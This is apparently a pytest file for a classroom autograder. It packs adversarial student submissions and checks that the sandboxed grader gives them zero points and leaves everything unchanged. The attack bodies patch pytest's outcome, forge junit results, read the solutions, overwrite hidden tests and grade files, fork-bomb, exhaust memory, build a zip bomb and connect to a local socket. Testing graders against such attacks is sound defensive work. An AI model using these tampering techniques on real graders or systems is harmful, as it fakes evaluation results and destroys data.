"""The hostile batch (``make grader-check``): submissions that attack the grader, graded with honest ones.

Every row of the threat table in docs/instructors.md is a submission here.
The batch is graded by the real command line (``python -m classroom.grade``)
in a child process; afterwards every grade must be honest, the honest
submissions' feedback and files unchanged, the repository unchanged, no
hidden check or solution quoted in any feedback, nothing written outside the
workers' scratch, no network connection made, and no process left running.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import warnings
import zipfile
from pathlib import Path

import pytest

from classroom import grade, release
from classroom.parts import PARTS, QUESTIONS, STUDENT_FILES
from classroom.regions import solution_lines
from classroom.release import ROOT, library_modules
from classroom.sandbox import isolation_problem

pytestmark = pytest.mark.skipif(isolation_problem() is not None, reason=f"no isolation here: {isolation_problem()}")
FORWARD_STUB = 'raise NotImplementedError("Part 1 (notebook 02_batchnorm_backward): write batchnorm_forward here")'
LIMIT = 10  # CPU seconds per part


def attack(release_files, code, at_import=""):
    """The release's files with ``code`` as batchnorm_forward's body (and ``at_import`` run when the module loads)."""
    files = {path: release_files[path] for path in STUDENT_FILES}
    source = files["bnhelpers/batchnorm.py"].decode()
    assert FORWARD_STUB in source
    body = textwrap.indent(textwrap.dedent(code).strip() + "\n", "    ").lstrip()
    source = source.replace(FORWARD_STUB, body)
    if at_import:
        # Top-level statements are not taken from a student's file, but a class body runs at import.
        source += "\n\nclass _AtImport:\n" + textwrap.indent(textwrap.dedent(at_import).strip() + "\n", "    ")
    files["bnhelpers/batchnorm.py"] = source.encode()
    return files


def pack(path, files, extra=()):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        for name, writer in extra:
            # A name that repeats one of files is deliberate (an entry given twice); zipfile warns of it.
            with warnings.catch_warnings():
                warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
                with zf.open(name, "w", force_zip64=True) as f:
                    writer(f)


def tree_digest(root, skip=()):
    """{relative path: sha256} of every file under root (symlinks as their target text)."""
    digests = {}
    for path in sorted(Path(root).rglob("*")):
        rel = path.relative_to(root).as_posix()
        if any(rel == s or rel.startswith(s + "/") for s in skip) or "__pycache__" in rel:
            continue
        if path.is_symlink():
            digests[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            digests[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def jailed_processes():
    """Processes running as one of the grader's worker uids (there must be none after a batch)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and int((entry / "status").read_text().split("Uid:")[1].split()[1]) >= 1_000_000:
                found.append(entry.name)
        except (OSError, IndexError, ValueError):
            continue
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    folder, out = tmp / "submissions", tmp / "grades"
    folder.mkdir()
    files = release.release_files()
    master = {path: (ROOT / path).read_bytes() for path in STUDENT_FILES}
    token = os.urandom(6).hex()
    leak, escape = Path(f"/tmp/leak-{token}"), Path(f"/tmp/escape-{token}")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port, connections = listener.getsockname()[1], []

    def accept():
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline and listener.fileno() != -1:
            try:
                connections.append(listener.accept()[0])
            except (TimeoutError, OSError):
                continue

    threading.Thread(target=accept, daemon=True).start()
    pack(folder / "honest_master.zip", master)
    pack(
        folder / "honest_part3.zip",
        {**files, **{p: master[p] for p in ("bnhelpers/spatial.py", "bnhelpers/layernorm.py")}},
    )
    hidden, out_str, folder_str = str(ROOT / "classroom" / "hidden"), str(out), str(folder)
    attacks = {
        "patch_pytest": attack(
            files,
            "return x, None",
            at_import="""
            try:
                import _pytest.reports as r
                r.TestReport.outcome = "passed"
            except Exception:
                pass
            """,
        ),
        "forged_junit": attack(
            files,
            f"""
            import os
            for where in ("junit.xml", "{out_str}/junit.xml", "/tmp/junit.xml"):
                try:
                    open(where, "w").write('<testsuite><testcase name="t"/></testsuite>')
                except OSError:
                    pass
            os._exit(0)
            """,
        ),
        "reads_master": attack(
            files,
            f"""
            import importlib.util, os
            for folder in ("{ROOT}/bnhelpers", "/sandbox/bnhelpers"):
                path = os.path.join(folder, "batchnorm.py")
                if os.path.exists(path) and "BEGIN SOLUTION" in open(path).read():
                    spec = importlib.util.spec_from_file_location("m", path)
                    m = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(m)
                    return m.batchnorm_forward(x, gamma, beta, bn_param)
            raise RuntimeError("no master found")
            """,
        ),
        "background_rewrites_grades": attack(
            files,
            f"""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(4)
                    open("{out_str}/grades.csv", "w").write("submission,part1,part2,part3,part4,total\\nbackground,35,15,30,20,100\\n")
                os._exit(0)
            raise RuntimeError("forked")
            """,
        ),
        "replaces_tests": attack(
            files,
            f"""
            import glob
            for path in glob.glob("{hidden}/*.py") + glob.glob("{ROOT}/classroom/public/*.py"):
                open(path, "w").write("")
            open("{ROOT}/bnhelpers/spatial.py", "w").write("raise ImportError")
            raise RuntimeError("replaced")
            """,
        ),
        "writes_grades_folder": attack(
            files,
            f"""
            import os
            os.makedirs("{out_str}", exist_ok=True)
            open("{out_str}/honest_master.md", "w").write("# honest_master: 0 of 100 points")
            open("{folder_str}/honest_master.zip", "wb").write(b"PK not a zip any more")
            open("{escape}", "w").write("escaped")
            raise RuntimeError("written")
            """,
        ),
        "leaks_hidden_tests": attack(
            files,
            f"""
            import glob, os, shutil
            text = ""
            for path in glob.glob("{hidden}/*.py") + glob.glob("/sandbox/bnhelpers/conventions.py"):
                text += open(path).read()  # conventions.py: the master's Part 2, which Part 1 calls
            os.makedirs("{leak}", exist_ok=True)
            open("{leak}/hidden.txt", "w").write(text)
            start = text.index("def weight_on_new")
            raise RuntimeError(text[start : start + 1500])
            """,
        ),
        "memory_and_forks": attack(
            files,
            """
            import os, time
            import numpy as np
            try:
                big = np.ones(2**29)  # 4 GiB
                big[::4096] = 2
            except MemoryError:
                pass
            children = 0
            for _ in range(200):
                if os.fork() == 0:
                    time.sleep(120)
                    os._exit(0)
                children += 1
            raise RuntimeError(f"forked {children}")
            """,
        ),
        "network": attack(
            files,
            f"""
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
            raise RuntimeError("connected")
            """,
        ),
        "spins": attack(files, "while True:\n    pass"),
    }
    for name, attacked in attacks.items():
        pack(folder / f"{name}.zip", attacked)
    # A folder holding a symlink to the master's solutions.
    linked = folder / "symlink_to_master"
    for path, data in files.items():
        if path in STUDENT_FILES:
            (linked / path).parent.mkdir(parents=True, exist_ok=True)
            (linked / path).write_bytes(data)
    (linked / "bnhelpers" / "batchnorm.py").unlink()
    (linked / "bnhelpers" / "batchnorm.py").symlink_to(ROOT / "bnhelpers" / "batchnorm.py")
    # A Part 4 answer that overflows a float.
    notebook = json.loads(master["notebooks/01_activation_statistics.ipynb"])
    for cell in notebook["cells"]:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and "q1 =" in source:
            cell["source"] = "q1 = 10**400\nq2 = (10**999) ** 999\n"
    pack(
        folder / "huge_number.zip", {**files, "notebooks/01_activation_statistics.ipynb": json.dumps(notebook).encode()}
    )

    # 2 GiB of zeros outside the manifest, and 64 MiB as a graded file: about 2 MiB compressed.
    def zeros(size):
        def write(f):
            chunk = bytes(2**20)
            for _ in range(size // 2**20):
                f.write(chunk)

        return write

    pack(
        folder / "zip_bomb.zip",
        dict(files),
        extra=[("padding.bin", zeros(2 * 2**30)), ("bnhelpers/layernorm.py", zeros(64 * 2**20))],
    )
    submissions_before = tree_digest(folder)
    repository_before = tree_digest(
        ROOT, skip=(".venv", ".venv-oldest", ".git", "dist", "build", "grades", ".pytest_cache", ".ruff_cache")
    )
    started = time.monotonic()
    command = [
        sys.executable,
        "-m",
        "classroom.grade",
        str(folder),
        "--out",
        str(out),
        "--time-limit",
        str(LIMIT),
        "--jobs",
        "2",
    ]
    run = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=900)
    seconds = time.monotonic() - started
    memory_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    time.sleep(5)  # the background process would have rewritten grades.csv by now
    listener.close()
    with open(out / "grades.csv") as f:
        rows = {row["submission"]: row for row in csv.DictReader(f)}
    feedback = {p.stem: p.read_text() for p in out.glob("*.md")}
    after = {
        "submissions": tree_digest(folder),
        "repository": tree_digest(
            ROOT, skip=(".venv", ".venv-oldest", ".git", "dist", "build", "grades", ".pytest_cache", ".ruff_cache")
        ),
        "processes": jailed_processes(),
    }
    yield {
        "run": run,
        "rows": rows,
        "feedback": feedback,
        "out": out,
        "before": {"submissions": submissions_before, "repository": repository_before},
        "after": after,
        "leak": leak,
        "escape": escape,
        "connections": connections,
        "seconds": seconds,
        "memory_mb": memory_mb,
        "attacks": [*sorted(attacks), "symlink_to_master", "huge_number", "zip_bomb"],
    }
    for path in (leak, escape):
        shutil.rmtree(path, ignore_errors=True) if path.is_dir() else path.unlink(missing_ok=True)


AUTOMATIC = sum(p.points for p in PARTS) - sum(q.points for q in QUESTIONS if q.kind == "written")


def test_the_batch_finishes_and_grades_everyone(batch):
    print(
        f"hostile batch: {len(batch['rows'])} submissions in {batch['seconds']:.0f} s, grader peak {batch['memory_mb']:.0f} MB"
    )
    assert batch["run"].returncode == 0, batch["run"].stderr[-2000:]
    assert set(batch["rows"]) == {"honest_master", "honest_part3", *batch["attacks"]}


def test_honest_submissions_get_honest_grades(batch):
    rows, feedback = batch["rows"], batch["feedback"]
    assert float(rows["honest_master"]["total"]) == AUTOMATIC, feedback["honest_master"]
    assert [float(rows["honest_part3"][f"part{n}"]) for n in (1, 2, 3)] == [0, 0, 30], feedback["honest_part3"]
    assert feedback["honest_master"].startswith(f"# honest_master: {AUTOMATIC:g} of 100 points")


def test_every_attack_gets_no_points(batch):
    rows = batch["rows"]
    for name in batch["attacks"]:
        graded = {f"part{n}": float(rows[name][f"part{n}"]) for n in (1, 2, 3)}
        assert graded == {"part1": 0, "part2": 0, "part3": 0}, (name, batch["feedback"][name])
    assert float(rows["huge_number"]["part4"]) < 20
    assert "symbolic link" in batch["feedback"]["symlink_to_master"]
    assert "larger than" in batch["feedback"]["zip_bomb"]


def test_nothing_outside_the_workers_changed(batch):
    before, after = batch["before"], batch["after"]
    assert after["repository"] == before["repository"], "the repository was modified"
    assert after["submissions"] == before["submissions"], "a submission was modified"
    assert sorted(p.name for p in batch["out"].iterdir()) == sorted(
        ["grades.csv"] + [f"{name}.md" for name in batch["rows"]]
    )
    assert not batch["leak"].exists()
    assert not batch["escape"].exists()
    assert not batch["connections"], "a worker reached the network"
    assert after["processes"] == [], "processes of a worker outlived its part"


def test_feedback_quotes_no_hidden_check_or_solution(batch):
    secrets = {
        line.strip()
        for p in (ROOT / "classroom" / "hidden").glob("*.py")
        for line in p.read_text().splitlines()
        if len(line.strip()) >= 24
    }
    for path in library_modules():
        secrets |= {line.strip() for line in solution_lines(path.read_text()) if len(line.strip()) >= 12}
    for name, text in batch["feedback"].items():
        quoted = [line for line in secrets if line in text]
        assert not quoted, (name, quoted[:3])
    assert "withheld" in batch["feedback"]["leaks_hidden_tests"]


def test_the_grader_reads_archives_in_bounded_memory(batch):
    assert batch["memory_mb"] < 1200, batch["memory_mb"]  # workers included: each is limited to 1 GiB of address space


def test_unsafe_platforms_are_refused_without_the_flag(monkeypatch):
    monkeypatch.setattr(grade, "isolation_problem", lambda: "this test pretends there is no unshare")
    with pytest.raises(grade.UnsafePlatform, match="--unsafe-no-isolation"):
        grade.check_isolation(unsafe=False)
    assert grade.check_isolation(unsafe=True) is False
